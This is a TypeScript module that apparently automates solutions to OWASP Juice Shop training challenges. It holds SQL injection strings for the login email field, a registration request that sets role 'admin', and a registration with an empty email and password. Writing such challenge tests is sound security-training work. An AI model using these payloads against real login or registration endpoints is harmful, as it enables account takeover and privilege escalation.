import request from 'supertest'
import type { Attacks } from '../../lib/attacks'

/** SQL injection in the login's email: the comment cuts the password check off. */
export const LOGIN_INJECTIONS = {
  loginAdminChallenge: "' or 1=1--",
  loginBenderChallenge: "bender@juice-sh.op'--",
  loginJimChallenge: "jim@juice-sh.op'--",
} as const

const loginAs = (email: string) => (target: Parameters<typeof request>[0]) =>
  request(target).post('/rest/user/login').send({ email, password: 'anything' })

const register = (body: object) => (target: Parameters<typeof request>[0]) => request(target).post('/api/Users/').send(body)

export const usersAttacks = {
  loginAdminChallenge: loginAs(LOGIN_INJECTIONS.loginAdminChallenge),
  loginBenderChallenge: loginAs(LOGIN_INJECTIONS.loginBenderChallenge),
  loginJimChallenge: loginAs(LOGIN_INJECTIONS.loginJimChallenge),
  // the API takes a role the registration form never sends
  registerAdminChallenge: (target) =>
    register({ email: `boss-${Date.now()}@example.com`, password: 'hunter2', passwordRepeat: 'hunter2', role: 'admin' })(target),
  // the API skips the checks of the form: an empty email and password are accepted
  emptyUserRegistration: register({ email: '', password: '', passwordRepeat: '', securityQuestion: { id: 1 }, securityAnswer: 'x' }),
} satisfies Attacks
